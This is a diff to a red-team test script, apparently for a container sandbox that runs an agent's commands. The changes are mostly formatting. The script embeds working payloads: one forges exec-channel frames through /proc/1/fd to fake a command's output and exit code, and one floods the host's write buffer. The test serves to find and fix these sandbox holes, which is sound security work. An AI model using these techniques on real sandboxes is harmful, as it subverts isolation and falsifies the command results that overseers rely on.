@@ -1,3 +1,4 @@
+# ruff: noqa: E501  (raw protocol bytes and shell probes read best on one line)
 """Red team: a command in the session opens the exec channel through /proc/1/fd (tini)
 or /proc/<timeout>/fd (both dumpable, same uid as every command; the agent's
 PR_SET_DUMPABLE=0 protects only the agent itself, and not at all under runsc).
@@ -8,7 +9,7 @@ PR_SET_DUMPABLE=0 protects only the agent itself, and not at all under runsc).
    ``tcp_close`` per frame into the attach socket's write buffer, which nobody reads:
    the host's memory grows without bound (no WRITE_STALL applies to `_post`).
 
-Run: .venv/bin/python tests/redteam_pending/channel_forgery.py [runc|runsc] [forge|flood]
+Run: .venv/bin/python -m tests.redteam_pending.channel_forgery [runc|runsc] [forge|flood]
 Exit status 1 when the attack worked (the promise is broken).
 """
 
@@ -23,7 +24,7 @@ import sys
 from sandbox import DockerBackend, SessionSpec
 from security import NetworkPolicy
 
-FRAME_LIB = r'''
+FRAME_LIB = r"""
 import json, os, struct, signal, sys, time
 def channel():
     for path in ("/proc/1/fd/1",):
@@ -35,9 +36,11 @@ def channel():
 def frame(header, payload=b""):
     head = json.dumps(header, separators=(",", ":")).encode() + b"\n"
     return struct.pack(">I", len(head) + len(payload)) + head + payload
-'''
+"""
 
-FORGE = FRAME_LIB + r'''
+FORGE = (
+    FRAME_LIB
+    + r"""
 fd = channel()
 victim = int(sys.argv[1])
 time.sleep(1.0)
@@ -45,9 +48,12 @@ os.write(fd, frame({"type": "output", "id": victim, "stream": "stdout"}, b"FORGE
 os.write(fd, frame({"type": "exit", "id": victim, "exit_code": 0, "signal": None,
                     "timed_out": False, "oom_killed": False, "duration": 0.1}))
 print("forged exit for", victim)
-'''
+"""
+)
 
-FLOOD = FRAME_LIB + r'''
+FLOOD = (
+    FRAME_LIB
+    + r"""
 fd = channel()
 agent = None
 for p in os.listdir("/proc"):
@@ -65,7 +71,8 @@ try:
 finally:
     os.kill(agent, signal.SIGCONT)
 print("flood bytes", sent)
-'''
+"""
+)
 
 
 def _next_id(session: object) -> int:
@@ -106,9 +113,11 @@ async def flood(runtime: str, seconds: float = 20.0) -> bool:
             lag = max(lag, loop.time() - before - 0.2)
         r = task.result()
         rss1 = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
-        print("flooder:", r.exit_code, r.stdout, r.stderr[-300:])
-        print(f"host write buffer peak: {peak / 2**20:.1f} MiB in {seconds:g} s;"
-              f" max RSS {rss0 / 1024:.0f} -> {rss1 / 1024:.0f} MiB; worst event-loop lag {lag * 1000:.0f} ms")
+        print("flooder:", r.exit_code, r.error, r.stdout, r.stderr[-300:])
+        print(
+            f"host write buffer peak: {peak / 2**20:.1f} MiB in {seconds:g} s;"
+            f" max RSS {rss0 / 1024:.0f} -> {rss1 / 1024:.0f} MiB; worst event-loop lag {lag * 1000:.0f} ms"
+        )
         return peak > 64 * 2**20
 
 
